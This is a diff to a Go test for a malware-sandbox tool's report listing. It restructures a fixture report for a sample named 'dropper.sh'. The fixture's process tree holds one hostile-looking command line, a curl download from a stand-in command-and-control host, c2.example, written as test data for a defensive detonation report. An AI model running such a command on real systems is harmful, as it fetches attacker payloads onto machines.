@@ -26,8 +26,9 @@ func TestDetonateListShow(t *testing.T) {
 	}
 	rep := sandbox.Report{RunID: "run-1", Sample: "dropper.sh", SHA256: strings.Repeat("ab", 32), Verdict: "malicious", Score: 8.5,
 		Severity: "high", Techniques: []sandbox.TechniqueSeen{{ID: "T1105", Name: "Ingress Tool Transfer", Tactics: []string{"Command and Control"}, Alerted: true}},
-		Tree:  []*sandbox.Node{{PID: 10, Cmdline: "/bin/sh /tmp/sample", Children: []*sandbox.Node{{PID: 11, Cmdline: "curl -o /tmp/x http://c2.example/x", Techniques: []string{"T1105"}}}}},
-		Rules: []sandbox.RuleFired{{Title: "Download <script>", Source: "sigma", Author: "Someone", Licence: "DRL 1.1", Severity: "medium"}}}
+		SandboxReport: telemetry.SandboxReport{
+			Tree:  []*sandbox.Node{{PID: 10, Cmdline: "/bin/sh /tmp/sample", Children: []*sandbox.Node{{PID: 11, Cmdline: "curl -o /tmp/x http://c2.example/x", Techniques: []string{"T1105"}}}}},
+			Rules: []sandbox.RuleFired{{Title: "Download <script>", Source: "sigma", Author: "Someone", Licence: "DRL 1.1", Severity: "medium"}}}}
 	b, _ := json.Marshal(rep)
 	run := telemetry.SandboxRun{ID: "run-1", Origin: "detonate", Sample: "dropper.sh", SHA256: rep.SHA256, Started: time.Now().UTC(),
 		Verdict: "malicious", Score: 8.5, Techniques: []string{"T1105"}, Tactics: []string{"TA0011"}, Report: b}
